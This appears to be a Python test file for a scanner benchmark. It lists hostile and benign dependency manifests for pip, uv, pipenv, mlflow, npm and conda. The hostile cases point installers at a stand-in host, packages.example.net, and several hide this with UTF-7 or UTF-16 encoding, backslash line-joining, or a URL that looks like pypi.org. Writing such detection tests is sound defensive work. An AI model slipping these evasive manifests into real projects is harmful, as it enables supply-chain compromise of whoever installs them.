"""Lists of packages of several tools whose installer goes to a stranger's host."""

from __future__ import annotations

from benchmarks.scan.hostile.cases import bad, twin
from benchmarks.scan.hostile.ordinary import vit

HOST = "https://packages.example.net"
SEVEN = (
    "# -*- coding: utf-7 -*-\ntorch>=2.4\n+AC0ALQ-extra+AC0-index+AC0-url https:+AC8ALw-packages.example.net/simple\n"
)

CASES = [
    bad(
        "in-utf-7",
        "pip decodes the list by the coding of its first lines: the option for a stranger's index is UTF-7",
        lambda: vit({"requirements.txt": SEVEN}),
    ),
    bad(
        "in-utf-16",
        "pip reads a list with a mark of UTF-16",
        lambda: vit({"requirements.txt": b"\xff\xfe" + f"torch\ntiny-net @ {HOST}/t.whl\n".encode("utf-16-le")}),
    ),
    bad(
        "joined-lines",
        "pip joins lines that end with a backslash, also within an option",
        lambda: vit({"requirements.txt": "torch\n--index-\\\nurl https://packages\\\n.example.net/simple\ntiny-net\n"}),
    ),
    bad(
        "name-before-the-host",
        "SageMaker installs code/requirements.txt: what stands before the @ is a user's name",
        lambda: vit(
            {"code/requirements.txt": "--extra-index-url https://pypi.org:443@packages.example.net/simple\ntiny\n"}
        ),
    ),
    bad(
        "index-of-uv",
        "uv reads uv.toml of the folder, its index comes first",
        lambda: vit(
            {"uv.toml": f'[[index]]\nname = "mirror"\nurl = "{HOST}/simple"\n', "requirements.txt": "tiny-net\n"}
        ),
    ),
    bad(
        "needed-to-build",
        "pip install . fetches and runs what builds the project from a stranger's host",
        lambda: vit(
            {
                "pyproject.toml": f'[build-system]\nrequires = ["setuptools", "tools @ {HOST}/tools-1.0-py3-none-'
                'any.whl"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "vit-tools"\nversion = '
                '"1.0"\n'
            }
        ),
    ),
    bad(
        "source-of-pipenv",
        "pipenv install takes packages from the sources of the Pipfile",
        lambda: vit(
            {
                "Pipfile": f'[[source]]\nurl = "{HOST}/simple"\nverify_ssl = true\nname = "main"\n\n[packages]\n'
                'torch = "*"\ntiny-net = "*"\n'
            }
        ),
    ),
    bad(
        "environment-of-mlflow",
        "mlflow models serve installs build_dependencies of python_env.yaml by pip",
        lambda: vit(
            {
                "python_env.yaml": f"python: 3.10.12\nbuild_dependencies:\n- pip==24.0\n- tools @ {HOST}/tools.whl\n"
                "dependencies:\n- -r requirements.txt\n",
                "requirements.txt": "mlflow==2.14.1\n",
            }
        ),
    ),
    bad(
        "archive-of-node",
        "npm install fetches the archive and runs its scripts, for a page with transformers.js",
        lambda: vit(
            {
                "package.json": {
                    "name": "demo",
                    "version": "1.0.0",
                    "dependencies": {"@huggingface/transformers": "^3.0.0", "tiny-net": f"{HOST}/tiny-net-1.0.0.tgz"},
                }
            }
        ),
    ),
    bad(
        "channel-of-conda",
        "conda env create takes packages from the channels",
        lambda: vit(
            {
                "environment.yml": f"name: vit\nchannels:\n  - {HOST}/conda\n  - conda-forge\ndependencies:\n"
                "  - python=3.11\n  - pytorch\n"
            }
        ),
    ),
    twin(
        "usual-list",
        "pip",
        lambda: vit(
            {
                "requirements.txt": "# CUDA 12.1\n--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.4.0\n"
                "git+https://github.com/huggingface/transformers.git@v4.45.0\n-e git+https://github.com/facebookresearch/"
                "segment-anything.git#egg=segment_anything\nnumpy<2; python_version < '3.12'\n"
            }
        ),
    ),
    twin(
        "project-of-uv",
        "uv sync",
        lambda: vit(
            {
                "pyproject.toml": '[project]\nname = "vit"\nversion = "0.1.0"\ndependencies = ["torch"]\n\n'
                '[tool.uv.sources]\ntorch = { index = "pytorch-cpu" }\n\n[[tool.uv.index]]\nname = "pytorch-cpu"\nurl'
                ' = "https://download.pytorch.org/whl/cpu"\nexplicit = true\n\n[project.urls]\nhomepage = '
                '"https://vit.example.org"\n'
            }
        ),
    ),
    twin(
        "usual-environment",
        "conda env create",
        lambda: vit(
            {
                "environment.yml": "name: vit\nchannels:\n  - pytorch\n  - nvidia\n  - conda-forge\n  - defaults\n"
                "dependencies:\n  - python=3.11\n  - pip\n  - pip:\n    - timm\n"
                "prefix: /home/user/miniconda3/envs/vit\n"
            }
        ),
    ),
    twin(
        "page",
        "npm install",
        lambda: vit(
            {
                "package.json": {
                    "name": "demo",
                    "private": True,
                    "homepage": "https://demo.example.org",
                    "scripts": {"dev": "vite", "build": "vite build"},
                    "dependencies": {"@huggingface/transformers": "^3.0.0"},
                    "repository": {"type": "git", "url": "git+https://github.com/someone/demo.git"},
                }
            }
        ),
    ),
]
